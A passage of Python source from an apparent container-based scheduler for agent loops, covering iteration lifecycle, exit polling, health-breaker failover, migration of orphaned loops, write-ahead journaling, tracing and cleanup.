                # orphaned mid-start: the orphan already moved this
                # container to the abandoned list -- committing
                # "running" would silently un-orphan a loop the rescue
                # pass owns
                return
            loop.fresh_container = False
            loop.status = "running"
            loop.strands = 0        # the placement genuinely works
        # journaled AFTER the engine start returned: a crash in between
        # reads as started=False with a running container, which the
        # reconcile pass adopts at this same iteration anyway
        self._journal(REC_STARTED, agent=loop.agent, worker=worker.id,
                      epoch=epoch, iteration=loop.iteration)
        self.seams.fire("launch.post_start")
        now = self.tracer.now()
        self.tracer.child(loop.agent, loop.iteration, SPAN_START,
                          t_start, now, worker=worker.id)
        # the wait span opens here and closes when the poll accounts the
        # exit -- the container-executing phase of the iteration
        self._iter_started[(loop.agent, loop.iteration)] = now
        # mixed-path window (docs/workerd.md): this start ran DIRECT
        # (channel was down at submit) but the channel may be live
        # again -- and a live channel suppresses WAN polls/waiters for
        # this worker.  Hand workerd the exit watch so the iteration's
        # end is observed whichever path the launch took; the adopt
        # intent is idempotent server-side.
        ex = self._workerd_for(worker)
        if ex is not None:
            ex.submit_adopt(loop, epoch)
        self.on_event(loop.agent, "iteration_start", str(loop.iteration))

    def _guarded_start(self, loop: AgentLoop, epoch: int,
                       worker: Worker | None = None) -> None:
        """One worker's transient failure must never abort the other
        loops (per-worker isolation) or skip the CLI's cleanup."""
        worker = worker or loop.worker
        if self._stop.is_set() or loop.epoch != epoch:
            return
        try:
            self._start_iteration(loop, worker, epoch)
        except DriverError as e:
            # daemon unreachable mid-run: strand, don't fail -- the
            # failover policy owns the outcome (the container, if any,
            # is abandoned and re-created at the next placement)
            self._strand(loop, epoch, f"start: {e}")
        except ClawkerError as e:
            if loop.epoch != epoch:
                return      # raced an orphan mid-start; rescue owns it
            loop.status = "failed"
            self._journal(REC_LOOP_END, agent=loop.agent, status="failed",
                          reason=f"start: {e}")
            self.tracer.end_iteration(loop.agent, loop.iteration,
                                      status="failed", reason=f"start: {e}")
            self.on_event(loop.agent, "failed", f"start: {e}")
            log.error("loop %s: start failed: %s", loop.agent, e)

    def _strand(self, loop: AgentLoop, epoch: int, reason: str,
                *, penalize: bool = True) -> None:
        """Mark a loop orphaned after its worker's engine refused a
        create/start.  Runs on a lane thread; the run loop's rescue pass
        (_rescue_orphans) re-places it under the failover policy.
        ``penalize=False`` skips the breaker failure report: admission
        backpressure (a full queue) is flow control, not sickness."""
        with self._placement_lock:
            if loop.epoch != epoch or self._stop.is_set():
                return
            loop.epoch += 1
            # captured under the lock: the rescue pass may reassign
            # loop.worker the moment status flips to orphaned, and the
            # accounting below must hit the worker that FAILED, not the
            # healthy migration target
            wid = loop.worker.id
            stranded_cid = loop.container_id
            if loop.container_id:
                loop.abandoned.append((loop.worker, loop.container_id))
                loop.container_id = ""
            # close this attempt's span BEFORE the status flip publishes
            # the orphan: the run thread's rescue pass may re-place the
            # loop the moment it reads "orphaned", and its migrate hop
            # must open a fresh root, never land on this dying one
            now = self.tracer.now()
            self.tracer.child(loop.agent, loop.iteration, SPAN_ORPHAN,
                              now, now, worker=wid, reason=reason)
            self.tracer.end_iteration(loop.agent, loop.iteration,
                                      status="orphaned")
            self._iter_started.pop((loop.agent, loop.iteration), None)
            loop.status = "orphaned"
            if penalize:
                # backpressure rejections do NOT burn the strand
                # ceiling: a busy-but-healthy worker's queue draining is
                # not a deterministic daemon fault
                loop.strands += 1
                loop.retry_at = 0.0     # only rejections carry a backoff
        self._journal(REC_ORPHANED, agent=loop.agent, worker=wid,
                      cid=stranded_cid, reason=reason)
        if self.health is not None:
            if penalize:
                self.health.report_failure(wid, reason)
            self.health.note_orphaned(wid)
        self.on_event(loop.agent, "orphaned", f"{wid}: {reason}")
        log.info("loop %s stranded on %s: %s", loop.agent, wid, reason)
        if penalize:
            self._wake.set()
        # a backpressure strand retries at the fallback tick cadence
        # instead: an immediate wake would spin rescue->reject->rescue
        # at CPU speed until the queue drains

    def _finish_iteration(self, loop: AgentLoop, code: int) -> None:
        finished = loop.iteration
        loop.exit_codes.append(code)
        loop.iteration += 1
        if code == 0:
            loop.consecutive_failures = 0
        else:
            loop.consecutive_failures += 1
        now = self.tracer.now()
        t_wait = self._iter_started.pop((loop.agent, finished), now)
        status = "ok" if code == 0 else "failed"
        self.tracer.child(loop.agent, finished, SPAN_WAIT, t_wait, now,
                          worker=loop.worker.id)
        self.tracer.child(loop.agent, finished, SPAN_EXIT, now, now,
                          worker=loop.worker.id, status=status, code=code)
        self.tracer.end_iteration(loop.agent, finished, status=status,
                                  code=code)
        _ITERATIONS.labels(status).inc()
        self.on_event(loop.agent, "iteration_done", f"{loop.iteration - 1}:{code}")
        # journal records follow the event emits: a batched append may
        # fsync (milliseconds on slow filesystems), and consumers that
        # saw the status flip must not wait that long for the event --
        # replay only needs record ORDER, which is preserved
        self._journal(REC_EXITED, agent=loop.agent, iteration=finished,
                      code=code)
        self.seams.fire("iteration.post_exit")
        if (self.mergeq is not None and code == 0
                and loop.agent in self._branches):
            # iteration end: the agent's branch holds this iteration's
            # work; the run-thread merge tick lands branches serially
            # (docs/loop-worktrees.md#merge-queue).  Failed iterations
            # never submit -- a branch only lands off a clean exit.
            self.mergeq.submit(loop.agent, self._branches[loop.agent])
        if loop.consecutive_failures >= FAILURE_CEILING:
            loop.status = "failed"
            self.on_event(loop.agent, "failed",
                          f"{FAILURE_CEILING} consecutive failures")
            self._journal(REC_LOOP_END, agent=loop.agent, status="failed",
                          reason=f"{FAILURE_CEILING} consecutive failures")
        elif self.spec.iterations and loop.iteration >= self.spec.iterations:
            loop.status = "done"
            self.on_event(loop.agent, "done", f"{loop.iteration} iterations")
            self._journal(REC_LOOP_END, agent=loop.agent, status="done")

    # ------------------------------------------------------------- polling

    def _read_exit(self, loop: AgentLoop) -> tuple[int | None, str]:
        """(exit_code, failure_detail) for a stopped container.

        A ``None`` code with a detail means the iteration cannot be
        accounted: the container vanished, or it stopped with no
        ExitCode in its state -- a daemon that lost the exit status must
        read as a FAILED iteration, never as success (the old
        ``int(state.get("ExitCode") or 0)`` mapped exactly that to 0).
        A daemon that cannot be REACHED is neither: that raises
        ``_EngineUnreachable`` for the health breaker to judge.
        """
        engine = loop.worker.require_engine()
        try:
            info = engine.inspect_container(loop.container_id)
        except NotFoundError:
            return None, "container vanished"
        except ClawkerError as e:
            raise _EngineUnreachable(
                f"{loop.worker.id}: inspect failed: {e}") from e
        state = info.get("State") or {}
        if state.get("Running"):
            return None, ""        # raced a restart: not finished after all
        code = state.get("ExitCode")
        if code is None:
            return None, "stopped without exit code"
        try:
            return int(code), ""
        except (TypeError, ValueError):
            return None, f"unreadable exit code {code!r}"

    def _poll_lane(self, engine, loops: list[AgentLoop]
                   ) -> list[tuple[AgentLoop, int | None, str]]:
        """ONE ``list_containers`` round-trip for every loop agent this
        worker hosts (the serial loop paid one inspect per agent per
        tick), then one inspect per *stopped* container for its exit
        code.  Runs on the worker's lane, so a hung engine blocks only
        its own worker's poll.  Raises ``_EngineUnreachable`` when the
        daemon itself is gone: run() routes that to the health breaker
        (the failover policy decides the loops' fate), instead of the
        old behavior of failing every loop on the first dead poll."""
        try:
            rows = engine.list_containers(all=True, filters={
                "label": [f"{consts.LABEL_LOOP}={self.loop_id}"]})
        except ClawkerError as e:
            # transient list hiccup vs daemon-down: one cheap ping
            # decides (real engines return False rather than raising)
            try:
                alive = engine.ping()
            except Exception as pe:     # noqa: BLE001
                raise _EngineUnreachable(
                    f"list+ping failed: {pe}") from e
            if not alive:
                raise _EngineUnreachable(f"list+ping failed: {e}") from e
            rows = None
        out: list[tuple[AgentLoop, int | None, str]] = []
        if rows is None:
            # daemon answers pings but the list failed: fall back to
            # per-container inspects this tick
            for l in loops:
                code, detail = self._read_exit(l)
                if code is not None or detail:
                    out.append((l, code, detail))
            return out
        state_by_id = {r.get("Id", ""): str(r.get("State") or "").lower()
                       for r in rows}
        for l in loops:
            st = state_by_id.get(l.container_id)
            if st is None:
                out.append((l, None, "container vanished"))
            elif st not in _ACTIVE_STATES:
                code, detail = self._read_exit(l)
                if code is not None or detail:
                    out.append((l, code, detail))
        return out

    def _spawn_waiter(self, loop: AgentLoop) -> None:
        """Blocking ``wait_container`` on a side thread: a finished
        iteration wakes run() immediately instead of waiting out the
        poll interval.  Purely a wake-up -- the batched poll stays the
        source of truth for exit accounting."""
        key = (loop.agent, loop.iteration)
        if key in self._waited:
            return
        self._waited.add(key)
        engine = loop.worker.require_engine()
        cid = loop.container_id
        wid = loop.worker.id

        def wait() -> None:
            try:
                engine.wait_container(cid)
            except Exception:
                pass
            # the hint makes the NEXT tick submit this worker's poll
            # immediately instead of waiting out the fallback cadence
            self._exit_hints.add(wid)
            self._wake.set()

        threading.Thread(target=wait, daemon=True,
                         name=f"loop-wait-{loop.agent}-{loop.iteration}").start()

    # ----------------------------------------------------------------- run

    def run(self, *, poll_s: float = 0.5) -> list[AgentLoop]:
        """Drive every loop to completion (or stop()); returns final states.

        Event-driven: waiter threads wake the loop the moment an
        iteration exits, and poll futures wake it the moment they
        complete (done-callbacks on the waker event), so ``poll_s`` only
        bounds the fallback re-check cadence (and stop() latency) -- it
        can stay coarse without slowing restarts down, and one wedged
        worker's never-completing poll future no longer degrades healthy
        workers' restarts to poll-interval latency.

        The fleet :class:`HealthMonitor` runs for the duration: breaker
        verdicts (from probes, unreachable polls, and wedged lanes) are
        drained each tick on THIS thread, so orphaning and migration
        never race the accounting.
        """
        for loop in self.loops:
            # compat: loops registered without start() still launch here
            if loop.agent not in self._inflight:
                if loop.status == "pending":
                    self._submit_launch(loop, loop.worker, loop.epoch,
                                        self._launch)
                else:
                    done: Future = Future()
                    done.set_result(None)
                    self._inflight[loop.agent] = done
        self._ensure_health().start()
        wedge_after = max(4.0 * poll_s, LANE_WEDGE_FLOOR_S)
        polls: dict[str, Future] = {}
        poll_running_since: dict[str, float] = {}    # first tick seen EXECUTING
        launch_running_since: dict[str, float] = {}  # agent -> ditto, inflight
        poll_epochs: dict[str, dict[str, int]] = {}  # wid -> agent epochs
        #                                              at poll submit
        next_poll_at: dict[str, float] = {}   # backoff after unreachable
        poll_errs: dict[str, int] = {}
        unreach = self._unreach
        wedged: set[str] = set()
        try:
            while not self._stop.is_set():
                self._wake.clear()
                self._harvest_inflight()
                self._drain_verdicts()
                self._rescue_orphans()
                # queue hygiene: melt cancelled tickets (orphaned/stopped
                # placements) and dispatch anything their removal unblocks
                self.admission.sweep()
                self._pool_tick()
                self._merge_tick()
                if self.capacity is not None:
                    # elastic capacity rides the run thread at its own
                    # interval (docs/elastic-capacity.md); in loopd the
                    # daemon ticks one controller across hosted runs
                    self.capacity.maybe_tick()
                if self.pressure is not None:
                    # disk-pressure ladder rides the run thread at its
                    # own statvfs cadence (docs/durability.md#ladder)
                    self.pressure.tick()
                # a loop is busy while running or orphaned (awaiting
                # failover), or while its create/start/restart is still
                # queued on a (possibly wedged) worker lane
                busy = [l for l in self.loops
                        if l.status in ("running", "orphaned")
                        or not self._inflight[l.agent].done()]
                if not busy:
                    break
                pollable = [l for l in self.loops
                            if l.status == "running"
                            and self._inflight[l.agent].done()]
                by_worker: dict[str, list[AgentLoop]] = {}
                for l in pollable:
                    if self._workerd_live(l.worker.id):
                        # exits stream over the workerd channel: no WAN
                        # waiter, no WAN poll.  A degraded channel drops
                        # the worker back into this table next tick.
                        continue
                    self._spawn_waiter(l)
                    by_worker.setdefault(l.worker.id, []).append(l)
                now = time.monotonic()
                # a launch/restart EXECUTING far past any legitimate
                # duration means the lane is wedged inside a dedicated
                # read-unbounded engine call on a daemon that may still
                # answer probes -- without this, such a loop would hang
                # forever with no poll ever submitted for it
                for l in self.loops:
                    # wedge detection reads the dispatched LANE task --
                    # a launch still waiting in the admission queue has
                    # no lane task and is by definition not wedging one
                    fut = self._lane_task.get(l.agent)
                    if (l.status not in ("pending", "running")
                            or fut is None or fut.done()
                            or not fut.running()):
                        # an orphaned loop's stale future may stay
                        # running forever on the retired lane: reporting
                        # it again would re-trip every half-open trial
                        # and pin the worker open past recovery
                        launch_running_since.pop(l.agent, None)
                        continue
                    started = launch_running_since.setdefault(l.agent, now)
                    if now - started >= self.launch_wedge_s:
                        self.health.report_wedge(
                            l.worker.id, f"launch/restart executing "
                                         f"{now - started:.1f}s")
                for wid, group in by_worker.items():
                    pending = polls.get(wid)
                    if pending is not None:
                        if self._poll_is_stale(poll_epochs.get(wid, {})):
                            # every loop this poll was submitted for has
                            # moved on (orphaned, then resumed/migrated):
                            # abandon the stale future so a recovered
                            # worker's polls aren't blocked behind it
                            # forever (its results are unusable anyway)
                            polls.pop(wid, None)
                            poll_epochs.pop(wid, None)
                            poll_running_since.pop(wid, None)
                            wedged.discard(wid)
                        else:
                            # wedge detection clocks time EXECUTING on
                            # the lane -- a poll merely queued behind a
                            # slow-but-healthy create/bootstrap must not
                            # trip the breaker
                            if pending.running():
                                started = poll_running_since.setdefault(
                                    wid, now)
                                if (now - started >= wedge_after
                                        and wid not in wedged):
                                    wedged.add(wid)
                                    self.health.report_wedge(
                                        wid, f"poll executing "
                                             f"{now - started:.1f}s")
                            continue
                    # polls are demand-driven: an exit hint (waiter fired
                    # since the last poll) submits one immediately, else
                    # the fallback cadence applies -- submitting on every
                    # tick would spin, since each completion wakes a tick
                    if (wid not in self._exit_hints
                            and now < next_poll_at.get(wid, 0.0)):
                        continue
                    self._exit_hints.discard(wid)
                    engine = group[0].worker.require_engine()
                    fut = self._lane(group[0].worker).submit(
                        self._poll_lane, engine, list(group))
                    # completion wakes the tick immediately: no healthy
                    # worker ever waits out another worker's poll
                    fut.add_done_callback(lambda _f: self._wake.set())
                    polls[wid] = fut
                    poll_epochs[wid] = {l.agent: l.epoch for l in group}
                    next_poll_at[wid] = now + poll_s
                # workerd-streamed exits first: already deduped against
                # stale epochs/iterations, accounted through the same
                # block as poll results below
                finished: list[tuple[AgentLoop, int | None, str]] = \
                    self._drain_remote_exits()
                for wid in list(polls):
                    fut = polls[wid]
                    if not fut.done():
                        continue         # slow worker: re-harvest next tick
                    del polls[wid]
                    poll_running_since.pop(wid, None)
                    epochs = poll_epochs.pop(wid, {})
                    wedged.discard(wid)
                    try:
                        # a result only counts for loops still at the
                        # placement the poll was submitted for: a wedged
                        # poll completing AFTER its loops were orphaned
                        # and migrated must not fail the healthy
                        # re-placements ("container vanished" on the old
                        # worker is about the old placement, not them)
                        finished.extend(
                            (l, c, d) for l, c, d in fut.result()
                            if l.epoch == epochs.get(l.agent, l.epoch))
                        poll_errs.pop(wid, None)
                        unreach.pop(wid, None)
                        self.health.report_success(wid)
                    except _EngineUnreachable as e:
                        unreach[wid] = unreach.get(wid, 0) + 1
                        # a fresh successful probe is direct evidence the
                        # daemon is alive (unlike breaker state, it can't
                        # be perturbed by our own failure reports): a
                        # deterministic inspect/list fault, not death --
                        # feeding the breaker would quarantine a healthy
                        # worker, and never escalating would spin run()
                        # forever behind a breaker that never opens
                        alive = self.health.probe_says_alive(wid)
                        if alive and unreach[wid] >= FAILURE_CEILING:
                            # the freshness window can straddle the
                            # moment of death: confirm with a probe NOW
                            # before condemning the loops
                            group = by_worker.get(wid) or ()
                            confirm = (self.health.probe_worker(
                                group[0].worker) if group else None)
                            if confirm is not None and confirm.ok:
                                unreach[wid] = 0
                                finished.extend(
                                    (l, None, f"poll unreachable: {e}")
                                    for l in group)
                                continue
                            alive = False   # confirmation failed: dying
                        if not alive:
                            # the worker may be dying -- health's call,
                            # not the poll's: the breaker opens after K
                            # of these (or the probes get there first)
                            # and the failover policy takes over
                            self.health.report_failure(wid, str(e))
                    except Exception as e:
                        # a DETERMINISTIC poll crash (engine bug,
                        # malformed state) would otherwise retry at
                        # poll_s cadence forever with the loops stuck
                        # "running"
                        log.error("loop poll on %s failed: %r", wid, e)
                        poll_errs[wid] = poll_errs.get(wid, 0) + 1
                        if poll_errs[wid] >= FAILURE_CEILING:
                            finished.extend(
                                (l, None, f"poll crashed: {e!r}")
                                for l in by_worker.get(wid, ()))
                progressed = False
                for loop, code, detail in finished:
                    if loop.status != "running":
                        continue
                    progressed = True
                    self._waited.discard((loop.agent, loop.iteration))
                    if code is None:
                        loop.status = "failed"
                        self._journal(REC_LOOP_END, agent=loop.agent,
                                      status="failed", reason=detail)
                        self._iter_started.pop(
                            (loop.agent, loop.iteration), None)
                        self.tracer.end_iteration(
                            loop.agent, loop.iteration,
                            status="failed", reason=detail)
                        self.on_event(loop.agent, "failed", detail)
                        continue
                    self._finish_iteration(loop, code)
                    if loop.status == "running":  # budget left: next iteration
                        self._submit_launch(loop, loop.worker, loop.epoch,
                                            self._guarded_start)
                if not progressed:
                    self._wake.wait(poll_s)
        finally:
            self.health.stop()
            # settle tickets a stop/abort left in the admission queue:
            # their cancelled() now reads true, and sweeping completes
            # their handles so wait_launched callers never hang
            self.admission.sweep()
        if self._aborted:
            # kill(): the crash seam -- return exactly what SIGKILL would
            # leave behind (no halts, no span flush, no shutdown records;
            # the journal's batched tail stays wherever it was)
            return self.loops
        if self._stop.is_set():
            self._halt_running()
        # land whatever the last iterations submitted: the merge queue
        # must drain before callers read branch state off run()
        self._drain_merges()
        # iterations still open (stop(), a failed loop's in-flight span)
        # must land in the flight record before callers read it
        self.tracer.close_open(
            "stopped" if self._stop.is_set() else "failed")
        # callers read final states + their own on_event capture right
        # after run(); make sure every stamped event reached the sink
        self.events.flush()
        if self.journal is not None:
            self.journal.sync()
        return self.loops

    # ----------------------------------------------------------- failover

    def _poll_is_stale(self, snap: dict[str, int]) -> bool:
        """True when EVERY loop a pending poll was submitted for has
        moved on (epoch bumped by orphan/strand, or gone entirely) --
        the future's results are unusable and keeping it would block a
        recovered worker's fresh polls forever.  Checked against ALL
        loops, not the worker's current group: a loop that migrated AWAY
        is exactly the 'moved on' case."""
        if not snap:
            return False
        live = {l.agent: l.epoch for l in self.loops}
        return all(live.get(agent, epoch + 1) != epoch
                   for agent, epoch in snap.items())

    def _drain_verdicts(self) -> None:
        """Apply queued breaker transitions on the run thread.  Only the
        OPEN edge needs action (orphan the worker's loops); recovery is
        picked up by the per-tick rescue pass, which sees the closed
        breaker directly."""
        while True:
            try:
                wid, old, new, reason = self._verdicts.get_nowait()
            except queue.Empty:
                return
            if new == BREAKER_OPEN:
                self._orphan_worker(wid, reason)
            elif new == BREAKER_CLOSED:
                # retire the worker's lane at recovery too (the same
                # mechanism quarantine uses at open): a lane brought up
                # while the breaker cycled may still be wedged inside a
                # dedicated read-unbounded engine call that queued tasks
                # never trip wedge detection for -- launches resumed
                # under `--failover wait` must start on a FRESH thread,
                # never queue behind the stuck call (ROADMAP: PR-3 known
                # limitation).  Queued tasks on the old lane are
                # epoch-guarded and no-op when (if) the thread unblocks.
                self.lanes.retire(wid)
                self._unreach.pop(wid, None)   # a fresh episode starts clean
                # the halt attempted at orphan time ran against a dead
                # daemon and likely failed: a recovered worker may still
                # be running the abandoned copy of a migrated agent --
                # re-halt now that the daemon answers
                for loop in self.loops:
                    for worker, cid in list(loop.abandoned):
                        if worker.id == wid:
                            self._halt_abandoned(worker, cid)

    def _orphan_worker(self, wid: str, reason: str) -> None:
        # retire the worker's lane: its single thread may be parked
        # inside the very call that got the worker quarantined (a
        # dedicated read-unbounded engine op never errors out), and
        # abandoning futures does not free the thread -- work submitted
        # after recovery must get a FRESH lane thread, not queue behind
        # the wedged one.  Tasks already queued on the old lane are
        # epoch-guarded, so they no-op when (if) the thread unblocks.
        self.lanes.retire(wid)
        self._unreach.pop(wid, None)   # the episode ends with the orphaning
        for loop in self.loops:
            halt_cid = ""
            with self._placement_lock:
                if loop.worker.id != wid:
                    continue
                if loop.status not in ("pending", "running"):
                    continue
                loop.epoch += 1        # stale lane tasks for this placement die
                # span close precedes the status flip for the same
                # reason as in _strand (the rescue pass runs on this
                # thread, but lane tasks read the open-span table too)
                now = self.tracer.now()
                self.tracer.child(loop.agent, loop.iteration, SPAN_ORPHAN,
                                  now, now, worker=wid, reason=reason)
                self.tracer.end_iteration(loop.agent, loop.iteration,
                                          status="orphaned")
                self._iter_started.pop((loop.agent, loop.iteration), None)
                loop.status = "orphaned"
                loop.retry_at = 0.0     # a worker death supersedes any
                #                         admission backoff hint
                self._waited.discard((loop.agent, loop.iteration))
                if loop.container_id:
                    loop.abandoned.append((loop.worker, loop.container_id))
                    halt_cid = loop.container_id
                    loop.container_id = ""
            self._journal(REC_ORPHANED, agent=loop.agent, worker=wid,
                          cid=halt_cid, reason=reason)
            if halt_cid:
                # best-effort halt OFF the wedged lane: stop rides a
                # dedicated never-pooled socket (engine/httpapi), so a
                # dead worker's pool is never part of the attempt
                self._halt_abandoned(loop.worker, halt_cid)
            if self.health is not None:
                self.health.note_orphaned(wid)
            self.on_event(loop.agent, "orphaned", f"{wid}: {reason}")
        # zero the worker's admission bucket LAST (epochs above are
        # bumped, so its pending tickets read stale and melt in the
        # reset's pump): launches admitted there strand on the retired
        # lane, and their eventual releases must not free tokens in a
        # recovered worker's fresh bucket
        self.admission.reset_worker(wid)

    def _rescue_orphans(self) -> None:
        """Re-place orphaned loops under the failover policy.  Runs every
        tick: orphans that found no healthy target (or whose worker has
        not recovered yet, under ``wait``) are retried at tick cadence.
        """
        orphans = [l for l in self.loops if l.status == "orphaned"]
        if not orphans or self.health is None:
            return
        policy = self.spec.failover
        now = time.monotonic()
        for loop in orphans:
            # a bounded wait for a placement: when the whole fleet is
            # dead (or the waited-for worker never recovers), the run
            # must eventually fail and return rather than hang a
            # non-interactive invocation forever
            since = self._orphan_since.setdefault(loop.agent, now)
            if now - since >= self.orphan_grace_s:
                self._fail_orphan(loop, f"no healthy placement for "
                                        f"{now - since:.0f}s "
                                        f"(failover={policy})")
                continue
            # a loop that keeps stranding across placements while the
            # breakers read healthy is hitting a DETERMINISTIC daemon
            # failure (bad image, disk full): stop churning, fail it --
            # ADMITTED re-placements reset the grace timer
            # (_submit_launch), so this ceiling bounds that cycle while
            # the grace bounds rejection churn (which never burns it)
            if loop.strands >= STRAND_CEILING:
                self._fail_orphan(loop, f"{loop.strands} consecutive "
                                        "stranded create/starts")
                continue
            # a rejected-with-backoff loop honors the queue's
            # retry_after_s: re-placing before it would bounce straight
            # off the same full (or shed) queue -- the orphan-grace
            # clock keeps running above, so the backoff can never
            # extend a run past --orphan-grace
            if loop.retry_at and now < loop.retry_at:
                continue
            if policy == "fail":
                self._fail_orphan(loop, f"worker {loop.worker.id} "
                                        "unhealthy (failover=fail)")
                continue
            if policy == "wait":
                # resume on the SAME worker once its breaker closes
                if self.health.state(loop.worker.id) != BREAKER_CLOSED:
                    continue
                target = loop.worker
            else:                       # migrate
                # prefer a DIFFERENT worker: the orphan's own worker may
                # still read closed (one stranded create is below the
                # breaker threshold) yet just refused a create -- but
                # fall back to it rather than strand the only worker of
                # a one-worker fleet behind a transient blip.  The
                # policy picks (topology prefers the ICI-closest healthy
                # worker; everyone weighs load by probe latency).
                ctx = self._placement_ctx()
                target = (self.policy.pick(
                    ctx, exclude={loop.worker.id}, near=loop.worker)
                    or self.policy.pick(ctx, near=loop.worker))
                if target is None:
                    continue            # no healthy worker right now
            with self._placement_lock:
                if loop.status != "orphaned":
                    continue            # raced a concurrent transition
                old = loop.worker
                loop.worker = target
                loop.status = "pending"
                loop.fresh_container = True
                loop.retry_at = 0.0
            # NOTE: _orphan_since is NOT cleared here -- only an ADMITTED
            # re-submission clears it (_submit_launch), so a loop cycling
            # orphan -> re-place -> admission-rejected stays on the
            # grace clock and --orphan-grace bounds the churn
            # write-ahead: the new placement is durable before its launch
            # is submitted, so a crash mid-migration resumes at the NEW
            # worker instead of resurrecting the dead placement
            if target.id != old.id:
                self._journal(REC_MIGRATED, agent=loop.agent,
                              src=old.id, dst=target.id)
            rcpt = self._journal(REC_PLACEMENT, durable=True,
                                 agent=loop.agent, worker=target.id,
                                 epoch=loop.epoch,
                                 tenant=self.spec.tenant)
            if not self._durable_ok(rcpt, "placement"):
                # storage fault: the WAL-before-create contract is never
                # waived.  Strand WITHOUT breaker penalty (the worker is
                # fine, the disk is not); the next rescue pass retries
                # once the journal's lazy reopen / the pressure GC has
                # had a chance to recover it
                self._strand(loop, loop.epoch,
                             "storage fault: placement not durable",
                             penalize=False)
                continue
            note_decision(self.policy.name, target.id)
            self.on_event(loop.agent, PLACEMENT_DECISION, PlacementEvent(
                loop.agent, target.id, self.policy.name, self.spec.tenant,
                "replaced", f"from {old.id}").detail())
            # the re-placed attempt gets a FRESH root span (the orphaned
            # attempt's root closed when the worker died); the hop rides
            # it as a zero-width migrate child so `loop trace` can show
            # where the iteration travelled
            self.tracer.begin_iteration(loop.agent, loop.iteration,
                                        target.id, epoch=loop.epoch,
                                        resumed=True)
            # NOT `now`: the tracer clock is epoch time, and clobbering
            # the pass's monotonic `now` here would feed the NEXT
            # orphan's grace/backoff checks a 50-year delta
            t_span = self.tracer.now()
            if target.id != old.id:
                loop.migrations += 1
                self.health.note_migration(old.id, target.id)
                self.tracer.child(loop.agent, loop.iteration, SPAN_MIGRATE,
                                  t_span, t_span, worker=target.id,
                                  src=old.id, dst=target.id,
                                  hop=loop.migrations)
                self.on_event(loop.agent, "migrated",
                              f"{old.id}->{target.id}")
            else:
                self.on_event(loop.agent, "resumed", target.id)
            self._submit_launch(loop, target, loop.epoch, self._launch)

    def _fail_orphan(self, loop: AgentLoop, detail: str) -> None:
        loop.status = "failed"
        # the loop may still be "inflight" behind a wedged lane task
        # that will never complete: replace the future or busy stays
        # truthy and run() never returns
        done: Future = Future()
        done.set_result(None)
        self._inflight[loop.agent] = done
        self._orphan_since.pop(loop.agent, None)
        self._journal(REC_LOOP_END, agent=loop.agent, status="failed",
                      reason=detail)
        self.tracer.end_iteration(loop.agent, loop.iteration,
                                  status="failed", reason=detail)
        self.on_event(loop.agent, "failed", detail)

    def _load_by_worker(self) -> dict[str, int]:
        load: dict[str, int] = {}
        for l in self.loops:
            if l.status in ("pending", "running"):
                load[l.worker.id] = load.get(l.worker.id, 0) + 1
        return load

    def _halt_abandoned(self, worker: Worker, cid: str) -> None:
        if (worker.id, cid) in self._halted:
            return      # a previous halt landed; don't re-stop per recovery

        def halt() -> None:
            try:
                worker.require_engine().stop_container(cid, timeout=2)
                self._halted.add((worker.id, cid))
            except Exception:           # noqa: BLE001 -- best effort by design
                pass

        threading.Thread(target=halt, daemon=True,
                         name=f"loop-halt-{cid[:12]}").start()

    def _harvest_inflight(self) -> None:
        """Unexpected (non-ClawkerError) lane crashes must surface as a
        failed loop, not evaporate inside a future nobody reads."""
        for loop in self.loops:
            fut = self._inflight.get(loop.agent)
            if fut is None or not fut.done():
                continue
            exc = fut.exception()
            if exc is not None and loop.status in ("pending", "running"):
                loop.status = "failed"
                self._journal(REC_LOOP_END, agent=loop.agent, status="failed",
                              reason=f"internal: {exc!r}")
                self.tracer.end_iteration(loop.agent, loop.iteration,
                                          status="failed",
                                          reason=f"internal: {exc!r}")
                self.on_event(loop.agent, "failed", f"internal: {exc!r}")
                log.error("loop %s: lane task crashed: %r", loop.agent, exc)

    def stop(self) -> None:
        self._stop.set()
        self._wake.set()

    def request_shutdown(self, reason: str = "stop") -> None:
        """Graceful drain with a durable ``shutdown`` journal record --
        the marker that tells a later ``--resume`` this run ended
        cleanly (stopped loops, not a crash).  Idempotent: the CLI's
        first Ctrl-C and its SIGTERM path both land here."""
        if not self._shutdown_journaled:
            self._shutdown_journaled = True
            self._durable_ok(self._journal(REC_SHUTDOWN, durable=True,
                                           reason=reason), "shutdown")
        self.stop()

    def kill(self) -> None:
        """Simulate scheduler death (tests + the resume bench): cease all
        activity WITHOUT journaling, halting containers, flushing spans,
        or cleaning up -- exactly the state SIGKILL leaves for
        ``--resume`` to reconcile.  Lane guards see the stop flag, so
        queued tasks die the way a killed process's threads would."""
        self._aborted = True
        self._stop.set()
        self._wake.set()

    def _halt_running(self) -> None:
        futs = []
        for loop in self.loops:
            if loop.status != "running":
                continue
            futs.append(self._lane(loop.worker).submit(self._halt_one, loop))
            loop.status = "stopped"
            self._journal(REC_LOOP_END, agent=loop.agent, status="stopped")
            self.on_event(loop.agent, "stopped")
        if futs:
            futures_wait(futs, timeout=HALT_DEADLINE_S)

    def _halt_one(self, loop: AgentLoop) -> None:
        try:
            loop.worker.require_engine().stop_container(loop.container_id,
                                                        timeout=5)
        except ClawkerError:
            pass

    def status(self) -> list[dict]:
        out = []
        for l in self.loops:
            row = l.summary()
            if self.anomaly_watch is not None:
                sc = self.anomaly_watch.score_for(l.agent)
                if sc is not None:
                    row["anomaly_z"] = round(sc.latest, 2)
            out.append(row)
        return out

    def cleanup(self, *, remove_containers: bool = False) -> None:
        # merge-queue stragglers land first (a kill() skips this like
        # everything else); stale worktree registrations are pruned so
        # the NEXT run's setup_worktree starts clean
        if not self._aborted:
            self._drain_merges()
            if self.spec.worktrees:
                try:
                    from ..gitx.git import GitManager
                    with self._git_lock:
                        GitManager(self.cfg.project_root
                                   or Path.cwd()).prune_worktrees()
                except ClawkerError:
                    pass
            # git firewall: stop the proxy, remove the run-scoped rules
            # (exactly the journaled keys).  A kill() skips this like
            # everything else -- the next --resume replays the WAL and
            # tears down then.
            self._gitguard_teardown()
        # the warm pool drains unconditionally (even under --keep): its
        # members are framework plumbing, not user containers, and
        # "zero leaked pool containers after drain" is the contract.
        # The per-lane drain task runs AFTER queued fills; fills that
        # complete past the flag discard their own container.
        if self.warmpool is not None:
            self.warmpool.begin_drain()
            pool_futs = [self._lane(w).submit(self._drain_pool_worker, w)
                         for w in self.warmpool.workers()
                         if w.engine is not None]
            if pool_futs:
                futures_wait(pool_futs, timeout=HALT_DEADLINE_S)
        if remove_containers:
            # submit a removal for EVERY loop: it rides the same lane as
            # the loop's launch, so by the time it runs the launch has
            # drained and container_id is authoritative (checking it here
